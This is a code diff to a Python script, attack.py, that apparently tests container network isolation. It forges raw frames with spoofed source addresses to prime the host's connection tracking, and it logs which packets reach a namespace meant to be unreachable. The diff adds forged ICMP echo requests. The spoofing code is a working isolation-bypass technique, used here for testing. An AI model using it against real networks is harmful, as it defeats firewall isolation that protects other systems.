@@ -8,8 +8,8 @@
 #
 # Attacker side (run inside a container namespace):
 #   attack.py prime --iface IF --dmac MAC --src ADDR --port N [--timeout S] SPEC...
-#       Conntrack reply priming. SPEC = tcp:ADDR:PORT or udp:ADDR:PORT (the
-#       target T). For target number i the local port is N+i. For each target:
+#       Conntrack reply priming. SPEC = tcp:ADDR:PORT, udp:ADDR:PORT or
+#       icmp:ADDR:0 (the target T). For target number i the local port is N+i. For each target:
 #       send one AF_PACKET frame to MAC carrying a SYN (or a UDP datagram) with
 #       forged source T and destination ADDR:N+i, then connect (send) from
 #       ADDR:N+i to T, i.e. in the reply direction of the flow the host's
@@ -18,6 +18,9 @@
 #       answers the forged SYN. One line per target:
 #           target=tcp:T:P lport=N result=http200|connected|refused|timeout
 #           target=udp:T:P lport=N result=echo|timeout
+#           target=icmp:T:0 lport=N result=sent   (a forged echo request from
+#           T: the container's kernel answers T by itself, id = N; only the
+#           receiver at T can tell whether that reply arrived)
 #   attack.py nd --iface IF --dmac MAC --src ADDR6 --type ns|na --hlim N --tag TAG DST...
 #       one ICMPv6 neighbour solicitation/advertisement per DST (target =
 #       DST) with TAG as payload (an unknown ND option), sent as raw frames.
@@ -30,11 +33,12 @@
 #
 # Target side (run in the namespace that must not be reached):
 #   attack.py count --out FILE --ready FILE --stop FILE
-#       raw IPv4/IPv6 sockets for TCP, UDP and ICMPv6: every packet delivered
+#       raw IPv4/IPv6 sockets for TCP, UDP, ICMP and ICMPv6: every packet delivered
 #       to this namespace's stack (after its netfilter input hook) is written
 #       to FILE as one line:
 #           proto=tcp src=A sport=N dst=B dport=N flags=S len=N
-#           proto=icmp6 src=A dst=B type=N hlim=N tag=T
+#           proto=icmp|icmp6 src=A dst=B type=N id=N hlim=N tag=T
+#       (id: echo identifier; tag: payload of an ND message's option 253)
 #       Runs until the stop file exists.
 #   attack.py echo --tag TAG --port P --out FILE --ready FILE --stop FILE
 #       UDP echo bound to 0.0.0.0:P and [::]:P (no pktinfo: the kernel picks
@@ -107,6 +111,17 @@ def l4_nd(src, dst, kind, target, payload):
     opt = struct.pack("!BB", 253, (len(body) + 2) // 8) + body
     msg = struct.pack("!BBHI", typ, 0, 0, flags) + socket.inet_pton(socket.AF_INET6, target) + opt
     c = csum(pseudo(src, dst, 58, len(msg)) + msg)
+    return msg[:2] + struct.pack("!H", c) + msg[4:]
+
+
+def l4_echo(src, dst, ident, payload):
+    # ICMP echo request (v4 type 8) / ICMPv6 echo request (128)
+    if is6(src):
+        msg = struct.pack("!BBHHH", 128, 0, 0, ident, 1) + payload
+        c = csum(pseudo(src, dst, 58, len(msg)) + msg)
+    else:
+        msg = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + payload
+        c = csum(msg)
     return msg[:2] + struct.pack("!H", c) + msg[4:]
 
 
@@ -192,6 +207,15 @@ def prime(args):
         taddr, tport = split_hostport(rest)
         lport = base + i
         j = {"spec": spec, "proto": proto, "t": (taddr, tport), "lport": lport, "res": "timeout"}
+        if proto == "icmp":
+            # a forged echo request "from" T: the container's own kernel
+            # sends the echo reply (id = lport), no socket needed
+            j["res"] = "sent"
+            pkt = ip_packet(taddr, src, 58 if is6(src) else 1,
+                            l4_echo(taddr, src, lport, b"prime-%d" % lport))
+            fr.send(pkt)
+            jobs.append(j)
+            continue
         if proto == "tcp":
             lst = socket.socket(fam(src), socket.SOCK_STREAM)
             lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
@@ -210,6 +234,8 @@ def prime(args):
         fr.send(pkt)
         jobs.append(j)
     time.sleep(0.15)      # let the host record (and forward) the forged flows
+    jobs_icmp = [j for j in jobs if j["proto"] == "icmp"]
+    jobs = [j for j in jobs if j["proto"] != "icmp"]
     for j in jobs:
         if j["proto"] == "tcp":
             s = socket.socket(fam(src), socket.SOCK_STREAM)
@@ -271,6 +297,8 @@ def prime(args):
     for j in jobs:
         print("target=%s lport=%d result=%s" % (j["spec"], j["lport"], j["res"]))
         j["sock"].close()
+    for j in jobs_icmp:
+        print("target=%s lport=%d result=%s" % (j["spec"], j["lport"], j["res"]))
     sys.stdout.flush()
     return 0
 
@@ -363,7 +391,7 @@ def count(args):
     o, _ = opts(args, ("out", "ready", "stop"))
     out = open(o["out"], "a", buffering=1)
     socks = []
-    for p in (socket.IPPROTO_TCP, socket.IPPROTO_UDP):
+    for p in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, socket.IPPROTO_ICMP):
         socks.append((socket.socket(socket.AF_INET, socket.SOCK_RAW, p), 4, p))
     for p in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, 58):
         s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, p)
@@ -401,14 +429,17 @@ def count(args):
                         dst = socket.inet_ntop(socket.AF_INET6, c[:16])
                     elif lvl == socket.IPPROTO_IPV6 and typ == IPV6_HOPLIMIT:
                         hlim = struct.unpack("i", c[:4])[0]
-            if p == 58:
-                tag = ""
+            if p in (58, socket.IPPROTO_ICMP):
+                tag, ident = "", -1
                 if len(l4) >= 24 and l4[0] in (135, 136):
                     opt = l4[24:]
                     if len(opt) >= 2 and opt[0] == 253:
                         tag = opt[2:2 + opt[1] * 8 - 2].rstrip(b"\0").decode(errors="replace")
-                out.write("proto=icmp6 src=%s dst=%s type=%d hlim=%d tag=%s\n"
-                          % (src, dst, l4[0] if l4 else -1, hlim, tag or "-"))
+                if len(l4) >= 8 and l4[0] in (0, 8, 128, 129):
+                    ident = struct.unpack("!H", l4[4:6])[0]
+                out.write("proto=%s src=%s dst=%s type=%d id=%d hlim=%d tag=%s\n"
+                          % ("icmp6" if p == 58 else "icmp", src, dst, l4[0] if l4 else -1,
+                             ident, hlim, tag or "-"))
                 continue
             if len(l4) < 8:
                 continue
